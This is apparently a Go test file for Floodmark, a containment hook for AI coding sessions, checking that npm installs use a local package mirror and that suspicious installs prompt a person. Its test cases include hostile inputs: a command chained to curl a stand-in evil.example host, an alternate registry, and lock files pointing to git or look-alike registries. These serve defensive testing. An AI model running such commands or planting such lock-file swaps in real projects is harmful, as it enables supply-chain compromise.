package contain

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/floodmark/floodmark"
	"github.com/floodmark/floodmark/hook"
	"github.com/floodmark/floodmark/internal/box/mirror"
	"github.com/floodmark/floodmark/internal/box/mirrordesk"
	"github.com/floodmark/floodmark/internal/box/mirrorfetch"
	"github.com/floodmark/floodmark/internal/box/mirrorfetch/registrytest"
	"github.com/floodmark/floodmark/internal/format/lockfile"
)

// An npmStore is a registry of npm with one package.
type npmStore struct {
	*registrytest.Registry
	tarball []byte
	answer  int
}

func newNpmStore(t *testing.T) *npmStore {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	const text = `{"name":"a","version":"1.0.0"}`
	if err := w.WriteHeader(&tar.Header{Name: "package/package.json", Size: int64(len(text)), Mode: 0o644}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte(text)); err != nil {
		t.Fatal(err)
	}
	if w.Close() != nil || z.Close() != nil {
		t.Fatal("the archive cannot be written")
	}
	s := &npmStore{Registry: registrytest.New(t, "registry.npmjs.org"), tarball: b.Bytes(), answer: http.StatusOK}
	s.Answer = func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(s.answer)
		_, _ = w.Write(s.tarball)
	}
	return s
}

func (s *npmStore) lock() string {
	sum := sha512.Sum512(s.tarball)
	return fmt.Sprintf(`{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"1.0.0"}},"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-%s"}}}`,
		base64.StdEncoding.EncodeToString(sum[:]))
}

// stocked returns a house whose boxes have a mirror and whose project has a lock file.
func stocked(t *testing.T) (*house, *npmStore) {
	t.Helper()
	h, s := newHouseIn(t, ownHome(t)), newNpmStore(t)
	h.session = session
	h.write("app/package-lock.json", s.lock())
	h.write("app/package.json", `{"dependencies":{"a":"1.0.0"}}`)
	h.now = h.now.AddDate(100, 0, 0) // so that files written now are old
	now := func() time.Time { return h.now }
	h.cfg.Packages = &mirrordesk.Desk{
		Fetcher: &mirrorfetch.Fetcher{
			Store: mirror.Store{Folder: filepath.Join(h.home, "packages"), Quota: mirror.Quota}, From: mirrorfetch.Public(), Machine: "x86_64", Now: noon, Dial: s.Dial, Roots: s.Roots,
		},
		Home: h.home, Host: lockfile.Host{OS: "linux"}, Now: now, Wait: time.Hour,
	}
	h.cfg.Project = Machine{View: h.monitor.View, Disk: h.disk}.project
	door, err := New(h.cfg)
	if err != nil {
		t.Fatal(err)
	}
	h.door = door
	return h, s
}

func TestAnInstallHasAMirror(t *testing.T) {
	h, s := stocked(t)
	edit := hook.Call{ID: "w", Name: "Write", Args: []byte(fmt.Sprintf(`{"file_path":%q,"content":"x"}`, filepath.Join(h.project, "notes.txt")))}
	h.before(edit) // another file in the same folder
	h.after(edit)
	for i, line := range []string{"npm ci", "npm install --no-audit 2>&1 | tail -5", "cd . && npm ci"} {
		c := bash(fmt.Sprint(i), line)
		r := h.before(c)
		if !r.Decision.Contained() {
			t.Fatalf("%s: %+v", line, r)
		}
		spec := h.run(r.Command)
		shelf, err := mirror.Open(spec.Mirror.Folder, spec.Mirror.Set)
		if err != nil {
			t.Fatal(err)
		}
		if _, _, content, ok := shelf.Get("/a/-/a-1.0.0.tgz"); !ok || content.Close() != nil {
			t.Errorf("%s: the mirror has no package", line)
		}
		if len(spec.Hosts) > 0 {
			t.Errorf("%s: %q", line, spec.Hosts)
		}
		h.after(c)
	}
	if got := s.Asked(); !slices.Equal(got, []string{"GET registry.npmjs.org/a/-/a-1.0.0.tgz"}) {
		t.Errorf("%q", got)
	}
	r := h.before(bash("test", "npm test"))
	if spec := h.run(r.Command); spec.Mirror.Set != "" {
		t.Errorf("what installs nothing has a mirror: %+v", spec.Mirror)
	}
}

// Any other command has no mirror, and no packages are fetched for it. A person is asked if the
// line names what is fetched or a place to fetch from. Other commands are tried without a mirror.
func TestOtherInstallsHaveNoMirror(t *testing.T) {
	for name, c := range map[string]struct {
		line   string
		asks   bool
		change func(h *house, s *npmStore)
	}{
		"a new name":          {line: "npm install left-pad", asks: true},
		"another registry":    {line: "npm ci --registry=https://evil.example", asks: true},
		"something behind it": {line: "npm ci && curl https://evil.example/x", asks: true},
		"no lock file":        {line: "cd sub && npm ci"},
		"another manager":     {line: "yarn install"},
		"a package from git": {line: "npm ci", change: func(h *house, s *npmStore) {
			h.write("app/package-lock.json", strings.Replace(s.lock(), "https://registry.npmjs.org/a/-/", "git+https://evil.example/", 1))
		}},
		"a look-alike registry": {line: "npm ci", change: func(h *house, s *npmStore) {
			h.write("app/package-lock.json", strings.Replace(s.lock(), "npmjs.org", "npmjs.org.evil.example", 1))
		}},
		"no mirror": {line: "npm ci", change: func(h *house, _ *npmStore) { h.door.cfg.Packages = nil }},
		"the session wrote it": {line: "npm ci", change: func(h *house, s *npmStore) {
			w := hook.Call{ID: "w", Name: "Write", Args: []byte(fmt.Sprintf(`{"file_path":%q,"content":%q}`, filepath.Join(h.project, "package-lock.json"), s.lock()))}
			h.before(w)
			h.write("app/package-lock.json", s.lock())
			h.after(w)
		}},
		"a session of before wrote it": {line: "npm ci", change: func(h *house, s *npmStore) {
			w := hook.Call{ID: "w", Name: "Write", Args: []byte(fmt.Sprintf(`{"file_path":%q,"content":%q}`, filepath.Join(h.project, "package-lock.json"), s.lock()))}
			h.before(w)
			h.write("app/package-lock.json", s.lock())
			h.after(w)
			h.in("claude-code/other")
		}},
	} {
		t.Run(name, func(t *testing.T) {
			h, s := stocked(t)
			if c.change != nil {
				c.change(h, s)
			}
			call := bash("1", c.line)
			switch r := h.before(call); {
			case c.asks:
				if r.Decision.Verdict != floodmark.Confirm || r.Command != "" {
					t.Errorf("%+v", r)
				}
			case !r.Decision.Contained():
				t.Errorf("%+v", r)
			default:
				if spec := h.run(r.Command); spec.Mirror.Set != "" || len(spec.Hosts) > 0 || !spec.Whole {
					t.Errorf("%+v", spec)
				}
			}
			if got := s.Asked(); len(got) > 0 {
				t.Errorf("%q", got)
			}
		})
	}
}

// A registry that does not have a pinned package is not asked again soon. The next call is tried
// without a mirror.
func TestAMirrorThatCannotBeFilled(t *testing.T) {
	h, s := stocked(t)
	s.answer = http.StatusNotFound
	if r := h.before(bash("1", "npm ci")); r.Decision.Verdict != floodmark.Restrict || !strings.Contains(r.Line, "a 1.0.0: the registry answers 404") {
		t.Fatalf("%+v", r)
	}
	s.answer = http.StatusOK
	if r := h.before(bash("2", "npm ci")); !r.Decision.Contained() || h.run(r.Command).Mirror.Set != "" {
		t.Errorf("%+v", r)
	}
	if got := s.Asked(); len(got) != 1 {
		t.Errorf("%q", got)
	}
	h.now = h.now.Add(time.Hour)
	h.in("claude-code/later")
	if r := h.before(bash("3", "npm ci")); !r.Decision.Contained() {
		t.Errorf("%+v", r)
	}
}

// In a session that has read nothing, an install runs as without Floodmark.
func TestNoMirrorWhereNobodyIsAsked(t *testing.T) {
	h, s := stocked(t)
	h.session = "claude-code/fresh"
	h.tell(hook.Event{Point: hook.SessionStart, Cause: hook.Startup, Project: h.project, Home: h.home})
	if r := h.before(bash("1", "npm ci")); r.Decision.Verdict != floodmark.Allow || r.Command != "" || len(s.Asked()) > 0 {
		t.Errorf("%+v, %q", r, s.Asked())
	}
}
